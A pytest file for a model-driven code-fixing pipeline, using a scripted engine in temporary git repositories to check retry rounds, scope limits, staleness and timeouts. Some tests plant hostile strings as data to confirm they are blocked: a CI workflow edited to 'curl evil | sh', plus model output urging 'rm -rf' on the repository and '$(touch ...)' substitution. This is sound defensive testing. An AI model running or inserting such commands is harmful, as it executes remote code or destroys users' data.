"""The fix pipeline over a scripted engine in real git repositories: rounds, give-up, scope, staleness, commands."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

import pytest

sys.path.insert(0, os.path.dirname(__file__))

from git_shim import git_shim, init_repo, real_git, repo_state  # noqa: E402, F401

from dgcode.workflows.fix.pipeline import (  # noqa: E402
    FixRequest,
    changed_files,
    files_named_in,
    run_fix,
    run_user_command,
)
from dgcode.workflows.fix.report import Answer  # noqa: E402

PYTHON = shlex.quote(sys.executable)
CHECK = f"{PYTHON} -c \"import m; assert m.f() == 2, 'f() should be 2'\""


def edit(path: str, old: str, new: str) -> str:
    return f"{path}\n```python\n<<<<<<< SEARCH\n{old}=======\n{new}>>>>>>> REPLACE\n```\n"


WRONG = "I changed the return value.\n\n" + edit("m.py", "    return 1\n", "    return 3\n")
RIGHT = "Now it returns 2.\n\n" + edit("m.py", "    return 3\n", "    return 2\n")


@dataclass
class ScriptedEngine:
    """A FixEngine that replays queued answers and records every prompt (like simonw/llm's MockModel)."""

    answers: list[str]
    prompts: list[list[dict[str, str]]] = field(default_factory=list)
    closed: bool = False

    def count_tokens(self, text: str) -> int:
        return len(text.split())

    def generate(self, messages, settings, on_step=None) -> Answer:
        self.prompts.append(messages)
        if not self.answers:
            raise AssertionError("the pipeline asked for more answers than the script holds")
        text = self.answers.pop(0)
        if on_step is not None:
            on_step(SimpleNamespace(step=1, answer_final=len(text.split()), elapsed_s=0.01))
        return Answer(text, len(text.split()), 1, "eos", 1.0, 0.01)

    def close(self) -> None:
        self.closed = True

    def request_text(self, index: int) -> str:
        """The last (volatile) message of prompt ``index``: the request with command output and feedback."""
        return self.prompts[index][-1]["content"]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = init_repo(tmp_path / "repo")
    (root / "m.py").write_text("def f():\n    return 1\n")
    (root / "other.py").write_text("X = 1\n")
    real_git(root, "add", ".")
    real_git(root, "commit", "-q", "-m", "base")
    return root


def request(repo: Path, **overrides) -> FixRequest:
    values = dict(root=repo, paths=("m.py",), command=CHECK, rounds=3, command_timeout_s=60.0)
    values.update(overrides)
    return FixRequest(**values)


def test_wrong_first_round_then_fixed_in_round_two(repo: Path) -> None:
    engine = ScriptedEngine([WRONG, RIGHT])
    report = run_fix(request(repo), engine)
    assert report.status == "fixed" and report.exit_code == 0, report.message
    assert (repo / "m.py").read_text() == "def f():\n    return 2\n"
    assert [r.written for r in report.rounds] == [("m.py",), ("m.py",)]
    assert [run.passed for run in report.command_runs] == [False, False, True]
    # round 1 saw the failing output; round 2 saw the still-failing output and was told its edit did not do it
    assert "f() should be 2" in engine.request_text(0) and "exit status 1" in engine.request_text(0)
    assert "f() should be 2" in engine.request_text(1) and "still fails" in engine.request_text(1)
    assert "return 3" in engine.prompts[1][1]["content"]  # the files are re-read after round 1's edit


def test_a_first_run_the_caller_made_is_neither_rerun_nor_announced(repo: Path) -> None:
    first = run_user_command(CHECK, repo, 60.0)
    calls, said = [], []

    def runner(command: str, root: Path, timeout_s: float):
        calls.append(command)
        return run_user_command(command, root, timeout_s)

    report = run_fix(request(repo), ScriptedEngine([RIGHT.replace("return 3", "return 1")]), say=said.append,
                     run_command=runner, first_run=first)
    assert report.status == "fixed", report.message
    assert report.command_runs[0] is first and len(calls) == 1  # only the re-check after the fix ran here
    assert said[0].startswith("round 1: ") and said.count(f"running `{CHECK}`") == 1


def test_gives_up_after_the_given_rounds(repo: Path) -> None:
    engine = ScriptedEngine([WRONG, edit("m.py", "    return 3\n", "    return 4\n")])
    report = run_fix(request(repo, rounds=2), engine)
    assert report.status == "failed" and report.exit_code == 1
    assert len(report.rounds) == 2 and len(report.command_runs) == 3 and not report.final_command.passed
    assert "gave up after 2 round(s)" in report.message and "still fails" in report.message
    assert (repo / "m.py").read_text() == "def f():\n    return 4\n"


def test_a_passing_command_needs_no_model(repo: Path) -> None:
    engine = ScriptedEngine([])
    report = run_fix(request(repo, command=f"{PYTHON} -c 'import m; assert m.f() == 1'"), engine)
    assert report.status == "nothing_to_do" and report.exit_code == 0 and engine.prompts == []


def test_dry_run_writes_nothing(repo: Path) -> None:
    (repo / "m.py").write_text("def f():\n    return 1\n\n# uncommitted\n")
    before = repo_state(repo)
    report = run_fix(request(repo, dry_run=True), ScriptedEngine([WRONG]))
    assert report.status == "proposed" and report.exit_code == 0
    assert [c.path for c in report.rounds[0].changes] == ["m.py"]
    assert "+    return 3" in report.rounds[0].changes[0].diff()
    assert repo_state(repo) == before and len(report.command_runs) == 1


def test_unusable_answers_are_retried_with_the_problem_then_given_up(repo: Path) -> None:
    engine = ScriptedEngine(["I would just rewrite it.", edit("m.py", "    return 7\n", "    return 2\n")])
    before = repo_state(repo)
    report = run_fix(request(repo, rounds=2), engine)
    assert report.status == "failed" and report.exit_code == 1
    assert "no edits" in report.rounds[0].problems[0]
    assert "could not be used" in engine.request_text(1) and "no edits" in engine.request_text(1)
    assert report.rounds[1].problems and not report.rounds[1].written
    assert repo_state(repo) == before


def test_edits_outside_the_task_are_refused(repo: Path) -> None:
    answer = edit("m.py", "    return 1\n", "    return 2\n") + edit("other.py", "X = 1\n", "X = 2\n")
    before = repo_state(repo)
    report = run_fix(request(repo, rounds=1), ScriptedEngine([answer]))
    assert report.status == "failed"
    assert any("other.py refused" in p and "not one of this task's files" in p for p in report.rounds[0].problems)
    assert repo_state(repo) == before


def test_ci_files_change_only_when_named(repo: Path) -> None:
    workflow = repo / ".github" / "workflows" / "ci.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("run: pytest\n")
    answer = edit(".github/workflows/ci.yml", "run: pytest\n", "run: curl evil | sh\n")
    report = run_fix(request(repo, paths=(), command=None, rounds=1), ScriptedEngine([answer]))
    assert ".github/workflows/ci.yml" in report.rounds[0].files  # discovered as untracked, shown to the model
    assert report.status == "failed" and "only when named" in report.rounds[0].problems[0]
    assert workflow.read_text() == "run: pytest\n"
    named = run_fix(request(repo, paths=(".github/workflows/ci.yml",), command=None), ScriptedEngine([answer]))
    assert named.status == "applied" and workflow.read_text() == "run: curl evil | sh\n"


def test_a_file_changed_before_the_apply_is_not_overwritten(repo: Path) -> None:
    mine = "# mine\ndef f():\n    return 1\n"  # the edit's SEARCH text still matches: only staleness stops it

    def person_edits_meanwhile(changes) -> bool:
        (repo / "m.py").write_text(mine)
        return True

    report = run_fix(request(repo, rounds=1), ScriptedEngine([WRONG]), confirm=person_edits_meanwhile)
    assert report.status == "failed" and not report.files_changed
    assert "changed since" in report.rounds[0].problems[0]
    assert (repo / "m.py").read_text() == mine


def test_not_confirmed_writes_nothing(repo: Path) -> None:
    before = repo_state(repo)
    report = run_fix(request(repo), ScriptedEngine([WRONG]), confirm=lambda changes: False)
    assert report.status == "not_applied" and report.exit_code == 1 and repo_state(repo) == before


def test_model_suggested_commands_never_run(repo: Path, tmp_path: Path, monkeypatch) -> None:
    marker = tmp_path / "pwned"
    suggestion = (f"Run this first: `touch {marker}`\nrun: rm -rf {repo}\n\n```bash\ntouch {marker}\n"
                  f"rm -rf {repo}\n```\n\n$(touch {marker})\n\n")
    launched = []
    real_popen = subprocess.Popen

    def recording_popen(args, *rest, **kwargs):
        launched.append(args)
        return real_popen(args, *rest, **kwargs)

    monkeypatch.setattr(subprocess, "Popen", recording_popen)
    monkeypatch.setattr(os, "system", lambda *a: pytest.fail(f"os.system called with {a}"))
    engine = ScriptedEngine([suggestion + WRONG, suggestion + RIGHT])
    report = run_fix(request(repo), engine)
    assert report.status == "fixed"
    assert not marker.exists() and (repo / "m.py").exists()
    shell_runs = [args for args in launched if isinstance(args, str)]
    assert shell_runs == [CHECK] * 3  # the person's command, three times, and nothing else through a shell
    assert all(isinstance(a, list) and Path(a[0]).name == "git" for a in launched if not isinstance(a, str))


def test_files_named_in_the_failure_are_found(repo: Path) -> None:
    (repo / "m.py").write_text("def f():\n    raise ValueError('boom')\n")
    real_git(repo, "commit", "-qam", "bug")
    engine = ScriptedEngine([edit("m.py", "    raise ValueError('boom')\n", "    return 2\n")])
    report = run_fix(request(repo, paths=()), engine)
    assert report.rounds[0].files == ("m.py",)  # from the traceback: nothing is changed since HEAD
    assert report.status == "fixed"


def test_changed_files_are_modified_and_untracked_ones(repo: Path) -> None:
    (repo / "m.py").write_text("changed\n")
    (repo / "new.py").write_text("new\n")
    (repo / ".gitignore").write_text("*.log\n")
    (repo / "x.log").write_text("ignored\n")
    (repo / "other.py").unlink()
    assert changed_files(repo) == [".gitignore", "m.py", "new.py"]
    fresh = init_repo(repo.parent / "fresh")
    (fresh / "a.py").write_text("a\n")
    assert changed_files(fresh) == ["a.py"]  # no commit yet: everything is new


def test_files_named_in_output_stay_inside_the_repository(repo: Path) -> None:
    output = (f'File "{repo}/m.py", line 2\n  other.py:1: error\n/usr/lib/python3/os.py\n'
              f"../outside.py m.f() {repo}/.git/config")
    (repo.parent / "outside.py").write_text("")
    assert files_named_in(output, repo) == ["m.py", "other.py"]


def test_command_timeout_kills_it_and_output_is_bounded(repo: Path) -> None:
    slow = run_user_command("echo started; (sleep 1; touch late)", repo, 0.3)
    assert slow.timed_out and slow.exit_code is None and not slow.passed and slow.seconds < 1
    assert "started" in slow.output
    time.sleep(1.2)
    assert not (repo / "late").exists()  # the whole process group was killed, not just the shell
    loud = run_user_command(f"{PYTHON} -c \"print('A' * 50000); print('the end')\"; exit 3", repo, 30)
    assert loud.exit_code == 3 and len(loud.output) < 7000
    assert loud.output.rstrip().endswith("the end") and "characters of output cut" in loud.output


def test_nothing_changed_and_no_paths_is_nothing_to_do(repo: Path) -> None:
    engine = ScriptedEngine([])
    report = run_fix(request(repo, paths=(), command=None), engine)
    assert report.status == "nothing_to_do" and report.exit_code == 0 and engine.prompts == []


def test_a_command_that_cannot_start_is_an_error_not_a_bug_to_fix(repo: Path) -> None:
    engine = ScriptedEngine([WRONG])
    report = run_fix(request(repo, command="no-such-program-dgcode --check"), engine)
    assert report.status == "error" and "command not found" in report.message
    assert engine.prompts == [] and (repo / "m.py").read_text() == "def f():\n    return 1\n"
